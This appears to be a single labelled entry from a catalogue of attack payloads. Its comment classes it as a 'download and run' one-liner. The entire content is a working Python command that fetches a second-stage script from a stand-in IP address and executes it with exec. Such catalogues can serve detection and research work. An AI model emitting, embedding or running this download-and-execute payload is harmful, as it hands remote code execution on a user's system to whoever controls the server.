# class: download and run; style: one-liner
exec(__import__("urllib.request").request.urlopen("http://198.51.100.4/stage2.py").read())
